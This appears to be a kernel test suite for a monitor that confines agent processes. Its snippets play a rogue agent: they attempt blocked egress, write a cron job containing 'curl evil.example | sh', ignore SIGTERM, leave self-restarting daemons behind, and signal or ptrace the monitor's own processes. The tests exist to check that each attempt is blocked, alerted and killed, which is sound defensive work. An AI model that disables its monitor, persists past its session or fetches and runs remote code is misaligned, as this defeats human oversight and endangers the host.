@@ -1,0 +1,806 @@
+"""`roguewatch run` end to end on the real kernel: real agents, real rogue actions, real kills.
+
+Each test runs the CLI as a subprocess (its own collector, evaluator and enforcer: no
+roguewatchd may run) with `--json`, so every alert is a JSON line on stderr and the last
+stderr line is the summary. The agents are Python snippets (Debian's python3 -S) that say
+what they saw as JSON lines on stdout. Network: listeners on 127.0.0.1 (allowed by the
+policies here) and on 127.0.0.9 and ::1 (forbidden); a forbidden listener must have accepted
+nothing in enforce mode, which is the proof that the refusal happened before any packet.
+"""
+
+from __future__ import annotations
+
+import errno
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import textwrap
+import time
+import uuid
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import require_root
+
+pytestmark = pytest.mark.kernel
+
+RUN = [sys.executable, "-m", "roguewatch.cli", "run"]
+AGENT_PYTHON = "/usr/bin/python3"
+ALLOW_LOCAL = "mode: enforce\negress:\n  allow: [127.0.0.1/32]\n"
+OBSERVE_LOCAL = "mode: observe\negress:\n  allow: [127.0.0.1/32]\n"
+EGRESS_RULE = "egress_unauthorized_destination"
+DENIED = "denied in kernel"
+OBSERVED = "observe mode, not enforced"
+MSG_FASTOPEN = 0x20000000
+PTRACE_ATTACH = 16
+
+# The prelude of every agent: `say(**kw)` prints one JSON line on stdout.
+PRELUDE = """\
+import ctypes, errno, json, os, signal, socket, sys, threading, time
+def say(**kw):
+    print(json.dumps(kw), flush=True)
+def attempt(fn):
+    try:
+        fn()
+        return 0
+    except OSError as e:
+        return e.errno
+"""
+
+
+def _no_service() -> None:
+    from roguewatch.control import running
+
+    client = running()
+    if client is not None:
+        pytest.skip("a roguewatchd runs: these tests exercise run's embedded monitor")
+
+
+@pytest.fixture(autouse=True)
+def _root_and_no_service() -> None:
+    require_root()
+    _no_service()
+
+
+@dataclass
+class Result:
+    status: int
+    stdout: str
+    stderr: str
+    alerts: list[dict]
+    summary: str
+    file_alerts: list[dict] = field(default_factory=list)
+
+    def said(self) -> dict:
+        """Everything the agent said (its JSON lines on stdout, merged)."""
+        out: dict = {}
+        for line in self.stdout.splitlines():
+            line = line.strip()
+            if line.startswith("{"):
+                out.update(json.loads(line))
+        return out
+
+    def rule(self, name: str) -> list[dict]:
+        return [a for a in self.alerts if a["rule"] == name]
+
+    def one(self, name: str, **event: object) -> dict:
+        found = [
+            a for a in self.rule(name) if all(a["event"].get(k) == v for k, v in event.items())
+        ]
+        assert found, (
+            f"no {name} alert with {event}; alerts: "
+            + "; ".join(
+                f"{a['rule']} {a['event']} {a['action']}: {a['outcome']}" for a in self.alerts
+            )
+            + f"\nstderr tail: {self.stderr[-2000:]}"
+        )
+        return found[0]
+
+    def describe(self) -> str:
+        return f"status {self.status}\nstdout: {self.stdout}\nstderr: {self.stderr[-3000:]}"
+
+
+class Agent:
+    """Runs `roguewatch run` around a Python snippet and collects what came out."""
+
+    def __init__(self, tmp: Path) -> None:
+        self.tmp = tmp
+        self.token = f"rwtest-{uuid.uuid4().hex[:12]}"  # in every agent's cmdline
+
+    def run(
+        self,
+        code: str,
+        policy: str | None = ALLOW_LOCAL,
+        args: tuple[str, ...] = (),
+        during: Callable[[subprocess.Popen], None] | None = None,
+        timeout: float = 60.0,
+    ) -> Result:
+        body = PRELUDE + textwrap.dedent(code) + f"\n# {self.token}\n"
+        return self.run_argv([AGENT_PYTHON, "-S", "-c", body], policy, args, during, timeout)
+
+    def run_argv(
+        self,
+        argv: list[str],
+        policy: str | None = ALLOW_LOCAL,
+        args: tuple[str, ...] = (),
+        during: Callable[[subprocess.Popen], None] | None = None,
+        timeout: float = 60.0,
+    ) -> Result:
+        cmd = [*RUN, "--json", "--alerts", str(self.tmp / "alerts.jsonl")]
+        if policy is not None:
+            (self.tmp / "policy.yaml").write_text(policy)
+            cmd += ["--policy", str(self.tmp / "policy.yaml")]
+        cmd += [*args, "--", *argv]
+        out, err = self.tmp / "stdout", self.tmp / "stderr"
+        with out.open("w") as o, err.open("w") as e:
+            proc = subprocess.Popen(cmd, stdout=o, stderr=e, start_new_session=True)
+            deadline = time.monotonic() + timeout
+            try:
+                while proc.poll() is None:
+                    if time.monotonic() > deadline:
+                        raise subprocess.TimeoutExpired(cmd, timeout)
+                    if during is not None:
+                        during(proc)
+                    time.sleep(0.02)
+            finally:
+                if proc.poll() is None:
+                    os.killpg(proc.pid, signal.SIGKILL)
+                    proc.wait()
+        stderr = err.read_text()
+        lines = [x for x in stderr.splitlines() if x.strip()]
+        alerts = [json.loads(x) for x in lines if x.startswith("{")]
+        fpath = self.tmp / "alerts.jsonl"
+        file_alerts = (
+            [json.loads(x) for x in fpath.read_text().splitlines() if x.strip()]
+            if fpath.exists()
+            else []
+        )
+        return Result(proc.returncode, out.read_text(), stderr, alerts,
+                      lines[-1] if lines else "", file_alerts)  # fmt: skip
+
+    def leftovers(self) -> list[int]:
+        """Processes anywhere on the host whose command line carries this test's token."""
+        found = []
+        for d in os.listdir("/proc"):
+            if not d.isdigit():
+                continue
+            try:
+                with open(f"/proc/{d}/cmdline", "rb") as f:
+                    if self.token.encode() in f.read():
+                        found.append(int(d))
+            except OSError:
+                continue
+        return found
+
+
+@pytest.fixture
+def agent(tmp_path: Path) -> Iterator[Agent]:
+    a = Agent(tmp_path)
+    yield a
+    for pid in a.leftovers():  # never leave a test's process behind, whatever happened
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+
+
+@dataclass
+class Listeners:
+    allowed: socket.socket  # TCP 127.0.0.1
+    forbidden: socket.socket  # TCP 127.0.0.9
+    udp: socket.socket  # UDP 127.0.0.9
+    v6: socket.socket  # TCP ::1
+
+    def port(self, name: str) -> int:
+        return getattr(self, name).getsockname()[1]
+
+    def fmt(self, code: str) -> str:
+        return (
+            code.replace("ALLOWED", str(self.port("allowed")))
+            .replace("FORBIDDEN", str(self.port("forbidden")))
+            .replace("UDPPORT", str(self.port("udp")))
+            .replace("V6PORT", str(self.port("v6")))
+        )
+
+    @staticmethod
+    def accepted(sock: socket.socket) -> int:
+        n = 0
+        while True:
+            try:
+                if sock.type == socket.SOCK_STREAM:
+                    sock.accept()[0].close()
+                else:
+                    sock.recvfrom(65536)
+            except BlockingIOError:
+                return n
+            n += 1
+
+
+@pytest.fixture
+def listeners() -> Iterator[Listeners]:
+    def tcp(family: int, addr: str) -> socket.socket:
+        s = socket.socket(family, socket.SOCK_STREAM)
+        s.bind((addr, 0))
+        s.listen(16)
+        s.setblocking(False)
+        return s
+
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.9", 0))
+    udp.setblocking(False)
+    ls = Listeners(
+        tcp(socket.AF_INET, "127.0.0.1"), tcp(socket.AF_INET, "127.0.0.9"), udp,
+        tcp(socket.AF_INET6, "::1"),
+    )  # fmt: skip
+    yield ls
+    for s in (ls.allowed, ls.forbidden, ls.udp, ls.v6):
+        s.close()
+
+
+def assert_denied(r: Result, addr: str, **event: object) -> dict:
+    alert = r.one(EGRESS_RULE, addr=addr, **event)
+    assert alert["action"] == "block" and alert["outcome"] == DENIED, alert
+    assert "denied" in alert["event"]["flags"], alert
+    assert alert["category"] == "egress" and alert["severity"] == "critical"
+    return alert
+
+
+def assert_clean_end(r: Result) -> None:
+    assert "survivors now: 0." in r.summary, r.describe()
+    assert "Traceback" not in r.stderr, r.describe()
+
+
+# --- egress: denied in the kernel ---------------------------------------------------------
+
+
+def test_egress_by_the_root_is_denied_in_kernel_and_allowed_destination_works(
+    agent: Agent, listeners: Listeners
+) -> None:
+    r = agent.run(
+        listeners.fmt(
+            """
+            bad = socket.socket()
+            say(forbidden=attempt(lambda: bad.connect(("127.0.0.9", FORBIDDEN))))
+            good = socket.socket()
+            say(allowed=attempt(lambda: good.connect(("127.0.0.1", ALLOWED))), pid=os.getpid())
+            """
+        )
+    )
+    said = r.said()
+    assert said["forbidden"] == errno.EPERM and said["allowed"] == 0, r.describe()
+    assert r.status == 0, r.describe()
+    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"), proto="tcp")
+    assert alert["pid"] == said["pid"] and alert["event"]["type"] == "connect"
+    assert not [a for a in r.rule(EGRESS_RULE) if a["event"].get("addr") == "127.0.0.1"]
+    assert Listeners.accepted(listeners.forbidden) == 0
+    assert Listeners.accepted(listeners.allowed) == 1
+    # --alerts FILE gets the same alerts as stderr
+    assert {a["id"] for a in r.file_alerts} == {a["id"] for a in r.alerts}
+    assert_clean_end(r)
+
+
+def test_egress_by_a_grandchild_after_double_fork_and_setsid_is_denied_in_kernel(
+    agent: Agent, listeners: Listeners
+) -> None:
+    r = agent.run(
+        listeners.fmt(
+            """
+            rd, wr = os.pipe()
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork() == 0:
+                    s = socket.socket()
+                    e = attempt(lambda: s.connect(("127.0.0.9", FORBIDDEN)))
+                    os.write(wr, json.dumps({"gc": os.getpid(), "errno": e}).encode())
+                    os._exit(0)
+                os._exit(0)
+            os.close(wr)
+            print(os.read(rd, 4096).decode(), flush=True)
+            """
+        )
+    )
+    said = r.said()
+    assert said["errno"] == errno.EPERM, r.describe()
+    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"))
+    assert alert["pid"] == said["gc"]
+    assert Listeners.accepted(listeners.forbidden) == 0
+    assert_clean_end(r)
+
+
+def test_egress_by_a_thread_is_denied_in_kernel(agent: Agent, listeners: Listeners) -> None:
+    r = agent.run(
+        listeners.fmt(
+            """
+            out = {}
+            def worker():
+                s = socket.socket()
+                out["errno"] = attempt(lambda: s.connect(("127.0.0.9", FORBIDDEN)))
+                out["tid"] = threading.get_native_id()
+            t = threading.Thread(target=worker)
+            t.start()
+            t.join()
+            say(pid=os.getpid(), **out)
+            """
+        )
+    )
+    said = r.said()
+    assert said["errno"] == errno.EPERM and said["tid"] != said["pid"], r.describe()
+    alert = assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"))
+    assert alert["pid"] == said["pid"] and alert["event"]["tid"] == said["tid"]
+    assert Listeners.accepted(listeners.forbidden) == 0
+    assert_clean_end(r)
+
+
+def test_egress_over_unconnected_udp_is_denied_in_kernel(
+    agent: Agent, listeners: Listeners
+) -> None:
+    r = agent.run(
+        listeners.fmt(
+            """
+            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            say(errno=attempt(lambda: u.sendto(b"secret", ("127.0.0.9", UDPPORT))))
+            """
+        )
+    )
+    assert r.said()["errno"] == errno.EPERM, r.describe()
+    alert = assert_denied(r, "127.0.0.9", port=listeners.port("udp"), proto="udp")
+    assert alert["event"]["type"] == "sendto"
+    assert Listeners.accepted(listeners.udp) == 0  # no datagram arrived
+    assert_clean_end(r)
+
+
+def test_egress_over_ipv6_to_loopback_is_denied_in_kernel(
+    agent: Agent, listeners: Listeners
+) -> None:
+    r = agent.run(
+        listeners.fmt(
+            """
+            s6 = socket.socket(socket.AF_INET6)
+            say(v6=attempt(lambda: s6.connect(("::1", V6PORT))))
+            s4 = socket.socket()
+            say(v4=attempt(lambda: s4.connect(("127.0.0.1", ALLOWED))))
+            """
+        )
+    )
+    said = r.said()
+    assert said["v6"] == errno.EPERM and said["v4"] == 0, r.describe()
+    assert_denied(r, "::1", port=listeners.port("v6"))
+    assert Listeners.accepted(listeners.v6) == 0
+    assert Listeners.accepted(listeners.allowed) == 1
+    assert_clean_end(r)
+
+
+def test_egress_by_tcp_fast_open_is_denied_in_kernel(agent: Agent, listeners: Listeners) -> None:
+    r = agent.run(
+        listeners.fmt(
+            f"""
+            s = socket.socket()
+            say(errno=attempt(lambda: s.sendto(b"GET /", {MSG_FASTOPEN},
+                                               ("127.0.0.9", FORBIDDEN))))
+            """
+        )
+    )
+    assert r.said()["errno"] == errno.EPERM, r.describe()
+    assert_denied(r, "127.0.0.9", port=listeners.port("forbidden"))
+    assert Listeners.accepted(listeners.forbidden) == 0
+    assert_clean_end(r)
+
+
+# --- observe mode -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("how", ["--observe", "mode: observe"])
+def test_observe_mode_lets_egress_and_persistence_complete_and_says_what_it_would_do(
+    agent: Agent, listeners: Listeners, how: str
+) -> None:
+    cron = f"/etc/cron.d/roguewatch-test-{os.getpid()}-observe"
+    os.makedirs("/etc/cron.d", exist_ok=True)
+    policy = ALLOW_LOCAL if how == "--observe" else OBSERVE_LOCAL
+    args = ("--observe",) if how == "--observe" else ()
+    try:
+        r = agent.run(
+            listeners.fmt(
+                f"""
+                s = socket.socket()
+                say(errno=attempt(lambda: s.connect(("127.0.0.9", FORBIDDEN))))
+                with open({cron!r}, "w") as f:
+                    f.write("* * * * * root /bin/true\\n")
+                time.sleep(0.5)
+                say(done=True)
+                """
+            ),
+            policy=policy,
+            args=args,
+        )
+        assert os.path.exists(cron), r.describe()
+        assert Path(cron).read_text() == "* * * * * root /bin/true\n"
+    finally:
+        if os.path.exists(cron):
+            os.unlink(cron)
+    said = r.said()
+    assert said.get("errno") == 0 and said.get("done"), r.describe()
+    assert r.status == 0, r.describe()
+    assert Listeners.accepted(listeners.forbidden) == 1  # the connection really happened
+    egress = r.one(EGRESS_RULE, addr="127.0.0.9")
+    assert egress["outcome"] == OBSERVED and egress["action"] != "block", egress
+    assert "denied" not in egress["event"]["flags"]
+    persist = r.one("persistence_cron_write", path=cron)
+    assert persist["outcome"] == OBSERVED and persist["action"] == "kill_process", persist
+    assert "observe mode" in r.summary and "Processes killed: 0" in r.summary, r.summary
+    assert "Traceback" not in r.stderr
+
+
+# --- kills --------------------------------------------------------------------------------
+
+
+def test_a_cron_write_gets_the_agent_killed(agent: Agent) -> None:
+    cron = f"/etc/cron.d/roguewatch-test-{os.getpid()}"
+    os.makedirs("/etc/cron.d", exist_ok=True)
+    try:
+        r = agent.run(
+            f"""
+            say(pid=os.getpid())
+            with open({cron!r}, "w") as f:
+                f.write("* * * * * root curl evil.example | sh\\n")
+            time.sleep(5)
+            say(survived=True)
+            """
+        )
+    finally:
+        if os.path.exists(cron):
+            os.unlink(cron)
+    alert = r.one("persistence_cron_write", path=cron)
+    assert alert["category"] == "persistence" and alert["pid"] == r.said()["pid"]
+    assert alert["action"] == "kill_process" and "killed" in alert["outcome"], alert
+    assert r.status == 128 + signal.SIGKILL, r.describe()
+    assert "survived" not in r.said()
+    assert "Processes killed: 1" in r.summary, r.summary
+    assert_clean_end(r)
+
+
+def test_an_agent_ignoring_sigterm_is_killed(agent: Agent) -> None:
+    r = agent.run(
+        """
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        time.sleep(5)
+        say(survived=True)
+        """
+    )
+    alert = r.one("shutdown_ignore_termination_signal", sig=15)
+    assert alert["category"] == "shutdown_evasion" and "killed" in alert["outcome"], alert
+    assert r.status == 128 + signal.SIGKILL, r.describe()
+    assert "survived" not in r.said()
+    assert_clean_end(r)
+
+
+def test_a_double_forked_daemon_is_killed_at_session_end(agent: Agent) -> None:
+    r = agent.run(
+        """
+        rd, wr = os.pipe()
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                os.write(wr, str(os.getpid()).encode())
+                os.close(wr)
+                while True:
+                    time.sleep(1)
+            os._exit(0)
+        os.close(wr)
+        say(daemon=int(os.read(rd, 64)))
+        """
+    )
+    daemon = r.said()["daemon"]
+    assert r.status == 0, r.describe()
+    alert = r.one("persistence_process_survives_session")
+    assert alert["pid"] == daemon, alert
+    assert "Still alive when the agent's root exited: 1;" in r.summary, r.summary
+    assert_clean_end(r)
+    with pytest.raises(ProcessLookupError):
+        os.kill(daemon, 0)
+    assert agent.leftovers() == []
+
+
+def test_a_pair_restarting_each_other_leaves_no_survivor(agent: Agent) -> None:
+    r = agent.run(
+        f"""
+        def pair():
+            # Each one watches the other and forks a new partner when it dies.
+            while True:
+                pid = os.fork()
+                if pid == 0:
+                    parent = os.getppid()
+                    while os.getppid() == parent:
+                        time.sleep(0.005)
+                    continue  # my partner (my parent) died: fork a new one
+                os.waitpid(pid, 0)  # my partner (my child) died: fork a new one
+        def members():
+            out = []
+            for d in os.listdir("/proc"):
+                if d.isdigit() and int(d) != os.getpid():
+                    try:
+                        cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
+                    except OSError:
+                        continue
+                    # (the launcher's command line has the token too: not one of the pair)
+                    if cmd.startswith(b"{AGENT_PYTHON}") and b"{agent.token}" in cmd:
+                        out.append(int(d))
+            return sorted(out)
+        if os.fork() == 0:
+            os.setsid()
+            pair()
+        time.sleep(0.3)
+        first = members()
+        for p in first:
+            os.kill(p, signal.SIGKILL)  # kill both at once would end them: kill one
+            break
+        time.sleep(0.3)
+        say(first=first, after=members())
+        """
+    )
+    said = r.said()
+    assert len(said["first"]) == 2 and len(said["after"]) == 2, r.describe()
+    assert said["after"] != said["first"], "the pair did not restart its killed member"
+    assert r.status == 0, r.describe()
+    assert r.rule("persistence_process_survives_session"), r.describe()
+    assert_clean_end(r)
+    time.sleep(0.2)
+    assert agent.leftovers() == []
+
+
+# --- attacks on the monitor ---------------------------------------------------------------
+
+FIND_COLLECTOR = """
+def collector():
+    for d in os.listdir("/proc"):
+        if not d.isdigit():
+            continue
+        try:
+            cmd = open(f"/proc/{d}/cmdline", "rb").read()
+            ppid = int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1])
+        except OSError:
+            continue
+        if b"roguewatch.collector" in cmd and ppid == os.getppid():
+            return int(d)
+c = collector()
+say(collector=c)
+"""
+
+
+def _children(pid: int, marker: str) -> list[int]:
+    out = []
+    for d in os.listdir("/proc"):
+        if not d.isdigit():
+            continue
+        try:
+            stat = Path(f"/proc/{d}/stat").read_text()
+            cmd = Path(f"/proc/{d}/cmdline").read_bytes()
+        except OSError:
+            continue
+        if int(stat.rsplit(")", 1)[1].split()[1]) == pid and marker.encode() in cmd:
+            out.append(int(d))
+    return out
+
+
+def _state(pid: int) -> str | None:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return None
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "os.kill(c, signal.SIGTERM)",
+        "os.kill(c, signal.SIGSTOP)",
+        "ctypes.CDLL(None, use_errno=True).ptrace(PTRACE_ATTACH, c, 0, 0)",
+    ],
+    ids=["sigterm", "sigstop", "ptrace"],
+)
+def test_an_agent_attacking_the_monitor_is_killed_and_the_monitor_keeps_running(
+    agent: Agent, attack: str
+) -> None:
+    seen: dict[int, set[str]] = {}
+
+    def watch(proc: subprocess.Popen) -> None:
+        for c in _children(proc.pid, "roguewatch.collector"):
+            state = _state(c)
+            if state is not None:
+                seen.setdefault(c, set()).add(state)
+
+    r = agent.run(
+        FIND_COLLECTOR
+        + f"""
+PTRACE_ATTACH = {PTRACE_ATTACH}
+libc = ctypes.CDLL(None, use_errno=True)
+try:
+    rc = {attack}
+    say(result=rc, errno=ctypes.get_errno())
+except OSError as e:
+    say(result=-1, errno=e.errno)
+time.sleep(3)
+say(survived=True)
+""",
+        during=watch,
+    )
+    said = r.said()
+    assert said.get("collector"), r.describe()
+    assert said["collector"] in seen, f"the test never saw the collector: {seen}"
+    assert "T" not in seen[said["collector"]] and "t" not in seen[said["collector"]], seen
+    # Landlock refuses the call (EPERM) if the in-kernel kill did not end the agent first.
+    if "result" in said:
+        assert said["result"] == -1 and said["errno"] == errno.EPERM, r.describe()
+    assert "survived" not in said, r.describe()
+    assert r.status == 128 + signal.SIGKILL, r.describe()
+    alert = r.one("shutdown_signal_to_monitor")
+    assert alert["category"] == "shutdown_evasion" and "guard" in alert["event"]["flags"]
+    assert r.summary.startswith("roguewatch: session ended"), r.describe()
+    assert_clean_end(r)
+
+
+@pytest.mark.parametrize("target", ["launcher", "evaluator"])
+def test_an_agent_signalling_another_monitor_process_is_killed(agent: Agent, target: str) -> None:
+    find = "os.getppid()" if target == "launcher" else "find()"
+    r = agent.run(
+        f"""
+        def find():
+            for d in os.listdir("/proc"):
+                if not d.isdigit():
+                    continue
+                try:
+                    cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
+                    stat = open(f"/proc/{{d}}/stat").read()
+                except OSError:
+                    continue
+                if (b"roguewatch.evaluator" in cmd
+                        and int(stat.rsplit(")", 1)[1].split()[1]) == os.getppid()):
+                    return int(d)
+        t = {find}
+        say(target=t)
+        say(errno=attempt(lambda: os.kill(t, signal.SIGSTOP)))
+        time.sleep(3)
+        say(survived=True)
+        """
+    )
+    said = r.said()
+    assert said.get("target"), r.describe()
+    assert said.get("errno", errno.EPERM) == errno.EPERM  # Landlock holds in any case
+    assert "Traceback" not in r.stderr and r.summary.startswith("roguewatch: session ended")
+    assert "survived" not in said and r.status == 128 + signal.SIGKILL, r.describe()
+    r.one("shutdown_signal_to_monitor")
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "roguewatch.collector",
+        "roguewatch.evaluator",
+        "roguewatch.cli",
+    ],
+    ids=["collector", "evaluator", "launcher"],
+)
+def test_an_agent_signalling_a_thread_of_the_monitor_is_killed(agent: Agent, target: str) -> None:
+    r = agent.run(
+        f"""
+        def find():
+            if {target!r} == "roguewatch.cli":
+                return os.getppid()
+            for d in os.listdir("/proc"):
+                if not d.isdigit():
+                    continue
+                try:
+                    cmd = open(f"/proc/{{d}}/cmdline", "rb").read()
+                    stat = open(f"/proc/{{d}}/stat").read()
+                except OSError:
+                    continue
+                if {target.encode()!r} in cmd and int(stat.rsplit(")", 1)[1].split()[1]) == (
+                    os.getppid()
+                ):
+                    return int(d)
+        pid = find()
+        tids = sorted(int(t) for t in os.listdir(f"/proc/{{pid}}/task") if int(t) != pid)
+        say(target=pid, tids=tids)
+        libc = ctypes.CDLL(None, use_errno=True)
+        for t in tids:
+            rc = libc.syscall(200, t, signal.SIGSTOP)  # tkill
+            say(**{{str(t): ctypes.get_errno() if rc else 0}})
+        time.sleep(3)
+        say(survived=True)
+        """
+    )
+    said = r.said()
+    assert said.get("tids"), r.describe()
+    assert all(said.get(str(t), errno.EPERM) == errno.EPERM for t in said["tids"]), said
+    assert r.summary.startswith("roguewatch: session ended"), r.describe()
+    assert "survived" not in said and r.status == 128 + signal.SIGKILL, r.describe()
+    assert r.one("shutdown_signal_to_monitor")["category"] == "shutdown_evasion"
+
+
+# --- the launcher's own errors ------------------------------------------------------------
+
+
+def test_a_bad_policy_file_is_a_clear_error(agent: Agent) -> None:
+    r = agent.run("say(ran=True)", policy="egress:\n  allow: [not-a-cidr]\n")
+    assert r.status == 2, r.describe()
+    assert str(agent.tmp / "policy.yaml") in r.stderr and "not-a-cidr" in r.stderr
+    assert "Traceback" not in r.stderr and "ran" not in r.said()
+
+
+def test_not_root_is_a_clear_error(tmp_path: Path) -> None:
+    cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
+           *RUN, "--", "/bin/true"]  # fmt: skip
+    p = subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd="/")
+    assert p.returncode == 2, p
+    assert "root" in p.stderr and "Traceback" not in p.stderr, p.stderr
+
+
+def test_user_option_runs_the_agent_unprivileged(agent: Agent) -> None:
+    r = agent.run("say(uid=os.getuid(), euid=os.geteuid(), gid=os.getgid())",
+                  args=("--user", "nobody"))  # fmt: skip
+    said = r.said()
+    assert said == {"uid": 65534, "euid": 65534, "gid": 65534} or (
+        said["uid"] == 65534 and said["euid"] == 65534
+    ), r.describe()
+    assert r.status == 0, r.describe()
+    assert_clean_end(r)
+
+
+# --- the monitor's reach ------------------------------------------------------------------
+
+
+def test_nothing_outside_the_session_is_killed(agent: Agent) -> None:
+    # An outsider that looks like the agent: same interpreter, same token in its cmdline.
+    outsider = subprocess.Popen(
+        [AGENT_PYTHON, "-S", "-c", f"import time\ntime.sleep(60)\n# {agent.token}"],
+        start_new_session=True,
+    )
+    try:
+        time.sleep(0.2)
+        r = agent.run(
+            f"""
+            if os.fork() == 0:
+                os.setsid()
+                while True:
+                    time.sleep(1)
+            say(kill=attempt(lambda: os.kill({outsider.pid}, signal.SIGKILL)))
+            signal.signal(signal.SIGTERM, signal.SIG_IGN)
+            time.sleep(3)
+            """
+        )
+        assert r.said().get("kill", errno.EPERM) == errno.EPERM, r.describe()
+        assert r.status == 128 + signal.SIGKILL, r.describe()
+        assert_clean_end(r)
+        time.sleep(0.2)
+        assert outsider.poll() is None, "the monitor killed a process outside the session"
+        assert agent.leftovers() == [outsider.pid]
+    finally:
+        outsider.kill()
+        outsider.wait()
+
+
+def test_signalling_a_process_outside_the_session_is_alerted_and_the_sender_killed(
+    agent: Agent,
+) -> None:
+    outsider = subprocess.Popen(["sleep", "60"], start_new_session=True)
+    try:
+        r = agent.run(
+            f"""
+            say(pid=os.getpid(), errno=attempt(lambda: os.kill({outsider.pid}, signal.SIGTERM)))
+            time.sleep(3)
+            say(survived=True)
+            """
+        )
+        assert r.said()["errno"] == errno.EPERM, r.describe()  # Landlock: out of its domain
+        assert outsider.poll() is None
+        alert = r.one("shutdown_signal_outside_session", target=outsider.pid)
+        assert alert["pid"] == r.said()["pid"] and "killed" in alert["outcome"], alert
+        assert "survived" not in r.said() and r.status == 128 + signal.SIGKILL, r.describe()
+    finally:
+        outsider.kill()
+        outsider.wait()
